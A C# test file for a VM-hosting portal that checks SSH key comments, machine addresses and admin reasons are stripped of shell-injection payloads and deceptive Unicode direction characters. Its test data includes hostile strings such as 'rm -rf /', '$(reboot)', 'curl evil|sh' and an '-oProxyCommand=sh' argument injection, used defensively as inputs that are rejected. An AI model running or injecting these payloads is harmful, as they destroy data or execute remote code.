using System.Buffers.Binary;
using System.Text.Json;
using HeroOnboarding.Accounts;
using HeroOnboarding.Pool;
using HeroOnboarding.Tests.Stores;
using HeroOnboarding.Tests.Support;
using HeroOnboarding.Vms;
using Microsoft.EntityFrameworkCore;

namespace HeroOnboarding.Tests.Vms;

/// <summary>
/// SSH key comments and machine addresses end in shells of deployers and customers; reasons are read by people.
/// </summary>
public sealed class ShellSafeInput
{
    private const string Comment = "\"; rm -rf / #";

    /// <summary>Type and key of a well-formed line.</summary>
    private static readonly string Key =
        "ssh-ed25519 " + Convert.ToBase64String([0, 0, 0, 11, .. "ssh-ed25519"u8, .. Length(32), .. new byte[32]]);

    private static byte[] Length(int value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, value);
        return bytes;
    }

    [Theory]
    [InlineData(" asha@laptop-1.example_org", " asha@laptop-1.example_org")]
    [InlineData(" \"; rm -rf / #", "")]
    [InlineData(" $(reboot)", "")]
    [InlineData(" asha laptop", "")]
    [InlineData(" ashá", "")]
    [InlineData(" asha\u202e", "")]
    [InlineData("", "")]
    public void A_key_keeps_a_plain_comment_and_no_other(string comment, string kept)
    {
        Assert.True(SshPublicKey.TryRead(Key + comment, out var key));
        Assert.Equal(Key + kept, key);
        Assert.Equal(Key + kept, SshPublicKey.Clean(Key + comment));
    }

    [Theory, BothDatabases]
    public async Task Neither_store_nor_deployer_get_a_comment_that_is_not_plain(Db db)
    {
        await using var portal = await Portal.StartAsync(db, Portal.Machines(3));
        var asha = await portal.SignUpWithPlanAsync("asha");
        (await asha.PostAsync("/vm/allocate", new { ssh_public_key = $"{Key} {Comment}" })).Expect(201);
        Assert.DoesNotContain("rm -rf", await portal.FactsAsync(), StringComparison.Ordinal);
        (await asha.PostAsync("/vm/allocate", new { ssh_public_key = Key + " asha@laptop" })).Expect(201);
        Assert.Equal([Key, Key + " asha@laptop"], await ToldAsync(portal));
        var juma = await portal.SignUpAsync("juma");
        (
            await juma.PostAsync(
                "/plan/choose",
                new
                {
                    plan_id = "vms-5",
                    accept_terms = true,
                    ssh_public_key = $"{Key} {Comment}",
                }
            )
        ).Expect(201);
        Assert.DoesNotContain("rm -rf", await portal.FactsAsync(), StringComparison.Ordinal);
    }

    [Theory, BothDatabases]
    public async Task A_comment_that_was_stored_before_leaves_with_no_new_notice(Db db)
    {
        await using var portal = await Portal.StartAsync(db, Portal.Machines(1));
        var asha = await portal.SignUpWithPlanAsync("asha");
        (await asha.AllocateAsync()).Expect(201);
        await portal.Units.RunAsync(
            "test.seed",
            new("operator", "tester"),
            async unit =>
            {
                await unit.Db.VmAllocations.ExecuteUpdateAsync(set =>
                    set.SetProperty(a => a.SshPublicKey, $"{Key} {Comment}")
                );
                await unit.Db.Outbox.ExecuteDeleteAsync();
                await LeaseNotices.AssignAgainAsync(unit, await unit.Db.Accounts.SingleAsync());
            }
        );
        Assert.Equal([Key], await ToldAsync(portal));
    }

    [Theory, BothDatabases]
    public async Task A_comment_that_was_stored_before_does_not_follow_to_the_next_machine(Db db)
    {
        await using var portal = await Portal.StartAsync(db, Portal.Machines(2));
        var asha = await portal.SignUpWithPlanAsync("asha");
        var sid = (await asha.AllocateAsync()).Expect(201).Text("sid");
        await portal.AcceptsAsync("UPDATE vm_allocations SET ssh_public_key = {0}", $"{Key} {Comment}");
        await portal.AcceptsAsync("DELETE FROM outbox");
        (await asha.PostAsync("/vm/replace", new { allocation_sid = sid })).Expect(201);
        Assert.Equal([Key], await ToldAsync(portal));
    }

    [Theory]
    [InlineData("10.20.0.1", true)]
    [InlineData("vm-1.example.org", true)]
    [InlineData("VM1", true)]
    [InlineData("400::2", true)]
    [InlineData("[400::2]", true)]
    [InlineData("::ffff:169.254.169.254", true)]
    [InlineData("10.0.0.1;curl evil|sh", false)]
    [InlineData("10.0.0.1 -oProxyCommand=sh", false)]
    [InlineData("-oProxyCommand=sh", false)]
    [InlineData("$(reboot)", false)]
    [InlineData("vm_1", false)]
    [InlineData("vm-.example.org", false)]
    [InlineData("vm..example.org", false)]
    [InlineData("vm.example.org.", false)]
    [InlineData("10.0.0.256", false)]
    [InlineData("010.0.0.1", false)]
    [InlineData("10.1", false)]
    [InlineData("2130706433", false)]
    [InlineData("fe80::1%eth0", false)]
    [InlineData("[400::2", false)]
    [InlineData("[10.0.0.1]", false)]
    [InlineData("vm.exämple.org", false)]
    public async Task An_address_is_an_IP_address_or_a_host_name(string address, bool accepted)
    {
        Assert.Equal(accepted, MachineAddress.IsValid(address));
        await using var portal = await Portal.StartAsync(Db.Sqlite);
        var reply = await portal.RefreshPoolAsync(JsonSerializer.Serialize(new[] { new { id = "vm-1", address } }));
        if (accepted)
            reply.Expect(200);
        else
            Assert.Contains(
                "must be an IP address or a host name",
                reply.ExpectRefusal(PoolRefusals.PoolInvalid).Body,
                StringComparison.Ordinal
            );
    }

    [Fact]
    public void A_host_name_has_parts_of_63_and_253_characters_in_all()
    {
        var part = new string('a', 63);
        Assert.True(MachineAddress.IsValid($"{part}.{part}.{part}.{part[..61]}"));
        Assert.False(MachineAddress.IsValid($"{part}.{part}.{part}.{part[..62]}"));
        Assert.False(MachineAddress.IsValid(part + "a"));
        Assert.False(MachineAddress.IsValid(string.Concat(Enumerable.Repeat("a.", 127))));
    }

    [Theory, BothDatabases]
    public async Task An_address_that_was_stored_before_is_shown_but_not_offered_to_be_copied(Db db)
    {
        await using var portal = await Portal.StartAsync(db, Portal.Machines(2));
        var asha = await portal.SignUpWithPlanAsync("asha");
        var sid = (await asha.AllocateAsync()).Expect(201).Text("sid");
        (await asha.AllocateAsync()).Expect(201);
        await portal.Units.RunAsync(
            "test.seed",
            new("operator", "tester"),
            unit =>
                unit.Db.VmAllocations.Where(a => a.Sid == sid)
                    .ExecuteUpdateAsync(set => set.SetProperty(a => a.Address, "10.0.0.1;curl evil|sh"))
        );
        var page = (await asha.Browser.OpenAsync("/dashboard")).Expect(200).Body;
        Assert.Contains("10.0.0.1;curl evil|sh", page, StringComparison.Ordinal);
        Assert.DoesNotContain("data-copy=\"10.0.0.1;curl", page, StringComparison.Ordinal);
        Assert.Contains("data-copy=\"10.0.0.2\"", page, StringComparison.Ordinal);
    }

    /// <summary>Every character that Unicode 16 calls a bidirectional control, and those that have no width.</summary>
    [Fact]
    public void Characters_that_deceive_are_removed_and_letters_of_all_scripts_stay()
    {
        const string deceiving =
            "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060"
            + "\u2066\u2067\u2068\u2069\ufeff";
        foreach (var c in deceiving)
        {
            Assert.Equal("ab", SafeText.WithoutDeceiving($"a{c}b"));
            Assert.Equal("ab", SafeText.Clean($"a{c}b"));
        }
        const string letters = "Åsha ашá شكرا 谢谢 नमस्ते \U0001f600 a\u0301 line\nbreak";
        Assert.Equal(letters, SafeText.WithoutDeceiving(letters));
        Assert.DoesNotContain(letters, SafeText.IsDeceiving);
    }

    [Theory, BothDatabases]
    public async Task Direction_characters_leave_every_reason(Db db)
    {
        await using var portal = await Portal.StartAsync(db, Portal.Machines(3));
        var asha = await portal.SignUpWithPlanAsync("asha");
        var first = (await asha.AllocateAsync()).Expect(201).Text("sid");
        var second = (await asha.AllocateAsync()).Expect(201).Text("sid");
        const string reason = "pays\u202e to\u2066morrow\u200b, ашá";
        (await asha.PostAsync("/vm/replace", new { allocation_sid = first, problem = reason })).Expect(201);
        (await portal.AdminPostAsync("/admin/vm-release", new { allocation_sid = second, reason })).Expect(200);
        (
            await portal.AdminPostAsync(
                "/admin/credit-adjust",
                new
                {
                    user_sid = asha.Sid,
                    amount_cents = 100,
                    reason,
                }
            )
        ).Expect(200);
        (await portal.AdminPostAsync("/admin/pool-vm-quarantine", new { pool_vm_id = "vm-0003", reason })).Expect(200);
        (await portal.AdminPostAsync("/admin/kyc-unverify", new { user_sid = asha.Sid, reason })).Expect(200);
        (await portal.AdminPostAsync("/admin/user-suspend", new { user_sid = asha.Sid, reason })).Expect(200);
        var stored = await portal.FactsAsync();
        Assert.DoesNotContain(stored, SafeText.IsDeceiving);
        Assert.Equal(
            "pays tomorrow, ашá",
            await portal.ReadAsync(d => d.Accounts.Select(a => a.SuspendedReason).SingleAsync())
        );
        // A reason that consists of such characters counts as empty.
        (
            await portal.AdminPostAsync(
                "/admin/user-unsuspend",
                new { user_sid = asha.Sid, reason = "\u202e\u202e\u202e\u202e" }
            )
        ).ExpectRefusal(Refusals.ReasonRequired);
    }

    /// <summary>The keys in the notices of hand-outs, in the order in which they were queued.</summary>
    private static async Task<IReadOnlyList<string>> ToldAsync(Portal portal) =>
        [
            .. (
                await portal.ReadAsync(d =>
                    d.Outbox.Where(r => r.Kind == LeaseNotices.AssignKind)
                        .OrderBy(r => r.Sid)
                        .Select(r => r.Body)
                        .ToListAsync()
                )
            ).Select(body => JsonDocument.Parse(body).RootElement.GetProperty("ssh_public_key").GetString()!),
        ];
}
